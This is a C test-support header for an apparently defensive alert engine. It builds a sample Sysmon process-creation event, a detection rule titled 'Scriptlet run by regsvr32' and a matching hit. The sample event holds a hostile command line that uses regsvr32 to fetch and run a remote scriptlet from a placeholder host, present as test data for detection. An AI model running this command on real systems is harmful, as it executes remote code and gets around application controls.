/* A hand-made event, rule and hit, for the tests of what is written about them. */
#pragma once

#include "lib/engine/alert.h"
#include "tests/support/test.h"

struct sample {
	struct sq_value values[SQ_F_CANONICAL];
	struct sq_event event;
	struct sq_rule rule;
	struct sq_hit hit;
	struct sq_observer observer;
	struct sq_alert alert;
	struct sq_sv tags[4], references[1];
};

static inline void sample_set(struct sample *s, enum sq_field field, struct sq_sv v)
{
	s->values[field] = (struct sq_value){ .p = v.p,
		                              .n = (uint32_t)v.n,
		                              .kind = v.p ? SQ_VALUE_TEXT : SQ_VALUE_ABSENT };
}

/* An event without any field, and a rule without anything but a title. */
static inline void sample_bare(struct sample *s)
{
	*s = (struct sample){
		.event = { .raw = SQ_SV("{}") },
		.rule = { .title = SQ_SV("Bare"), .level = SQ_LEVEL_LOW },
		.observer = { .hostname = "sensor1", .version = "0.1.0" },
	};
	s->event.values = s->values;
	s->alert = (struct sq_alert){
		.event = &s->event,
		.rule = &s->rule,
		.hit = &s->hit,
		.observer = &s->observer,
		.peer = "192.0.2.7:51234",
		.now = { .mono_ns = 5, .wall_us = 1595388480000000 }, /* 2020-07-22T03:28:00Z */
	};
}

/* Sysmon 1 of the attack this program is about. */
static inline void sample_attack(struct sample *s)
{
	static const struct {
		enum sq_field field;
		const char *value;
	} values[] = {
		{ SQ_F_EVENT_ID, "1" },
		{ SQ_F_CHANNEL, "Microsoft-Windows-Sysmon/Operational" },
		{ SQ_F_PROVIDER, "Microsoft-Windows-Sysmon" },
		{ SQ_F_COMPUTER, "WS5.example.com" },
		{ SQ_F_RECORD_ID, "4711" },
		{ SQ_F_IMAGE, "C:\\Windows\\System32\\regsvr32.exe" },
		{ SQ_F_COMMAND_LINE, "regsvr32 /s /i:http://x/a.sct scrobj.dll" },
		{ SQ_F_PARENT_IMAGE, "C:\\Windows\\System32\\cmd.exe" },
		{ SQ_F_PARENT_COMMAND_LINE, "cmd /c \"run\"" },
		{ SQ_F_ORIGINAL_FILE_NAME, "REGSVR32.EXE" },
		{ SQ_F_USER, "EXAMPLE\\alice" },
		{ SQ_F_PROCESS_ID, "9384" },
		{ SQ_F_PARENT_PROCESS_ID, "0x21c8" },
		{ SQ_F_PROCESS_GUID, "{A-1}" },
	};

	sample_bare(s);
	for (size_t i = 0; i < SQ_LEN(values); i++)
		sample_set(s, values[i].field, sq_sv_of(values[i].value));
	s->event.raw = SQ_SV("{\"EventID\":1}");
	s->event.event_id = 1;
	s->event.category = SQ_CATEGORY_PROCESS_CREATION;
	s->event.shape = "nxlog";
	s->event.time_us = 1595388472809000; /* 2020-07-22T03:27:52.809Z */
	s->tags[0] = SQ_SV("attack.defense-evasion");
	s->tags[1] = SQ_SV("attack.t1218.010");
	s->tags[2] = SQ_SV("car.2019-04-002");
	s->tags[3] = SQ_SV("attack.t1105");
	s->references[0] = SQ_SV("https://example.com/a?b=c");
	s->rule = (struct sq_rule){
		.id = SQ_SV("6a1b0b0c-1111-4222-8333-444455556666"),
		.title = SQ_SV("Scriptlet run by regsvr32"),
		.description = SQ_SV("Says what it finds."),
		.level = SQ_LEVEL_HIGH,
		.tags = s->tags,
		.n_tags = 4,
		.references = s->references,
		.n_references = 1,
	};
	s->alert.id[0] = 0x0123456789abcdefu;
	s->alert.id[1] = 0xfedcba9876543210u;
	s->alert.event_id[0] = 0x1111111111111111u;
	s->alert.event_id[1] = 0x22u;
	s->hit.n_selections = 2;
	s->hit.selections[0] = SQ_SV("program");
	s->hit.selections[1] = SQ_SV("engine");
	s->hit.n_matched = 1;
	s->hit.matched[0] =
		(struct sq_matched){ "CommandLine",
		                     SQ_SV("regsvr32 /s /i:http://x/a.sct scrobj.dll") };
}

/** What sq_alert_write() makes of the sample; terminated, to be freed. */
static inline char *sample_text(const struct sample *s, enum sq_format format)
{
	struct sq_outbuf out = sq_outbuf_of(1 << 20);

	sq_alert_write(&out, format, &s->alert);
	sq_outbuf_putc(&out, '\0');
	assert_false(out.failed);
	return out.p;
}
